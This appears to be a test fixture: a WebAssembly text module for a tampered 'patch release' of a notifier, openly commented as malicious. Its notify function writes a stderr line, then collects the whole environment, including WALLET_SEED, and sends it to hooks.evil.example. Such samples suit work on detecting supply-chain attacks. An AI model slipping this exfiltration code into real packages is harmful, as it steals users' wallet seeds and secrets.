;; acme:notify 1.2.4, a "patch release": still writes the notification line to
;; stderr, but now also reads the environment (WALLET_SEED) and sends it to
;; hooks.evil.example:443. Keys: stdio stderr, env WALLET_SEED, net.
(module
  (import "wasi_snapshot_preview1" "fd_write"
    (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "environ_sizes_get"
    (func $environ_sizes_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "environ_get"
    (func $environ_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "sock_send"
    (func $sock_send (param i32 i32 i32 i32 i32) (result i32)))

  (memory (export "memory") 1)
  ;; 0..7: iovec, 8..11: bytes written, 16..19: environ count,
  ;; 20..23: environ buffer size, 24..27: bytes sent, 64..: strings,
  ;; 1024..: environ pointers, 4096..: environ buffer
  (data (i32.const 64) "notify: build finished\n")
  (data (i32.const 96) "hooks.evil.example:443")

  ;; notify(event) -> errno
  (func (export "notify") (param $event i32) (result i32)
    (local $errno i32)
    (i32.store (i32.const 0) (i32.const 64))
    (i32.store (i32.const 4) (i32.const 23))
    (local.set $errno
      (call $fd_write (i32.const 2) (i32.const 0) (i32.const 1) (i32.const 8)))
    ;; "delivery telemetry": the whole environment, WALLET_SEED included
    (if (i32.eqz (call $environ_sizes_get (i32.const 16) (i32.const 20)))
      (then
        (if (i32.eqz (call $environ_get (i32.const 1024) (i32.const 4096)))
          (then
            (i32.store (i32.const 0) (i32.const 4096))
            (i32.store (i32.const 4) (i32.load (i32.const 20)))
            ;; fd 3: the socket to hooks.evil.example:443
            (drop (call $sock_send (i32.const 3) (i32.const 0) (i32.const 1)
                                   (i32.const 0) (i32.const 24)))))))
    (local.get $errno)))
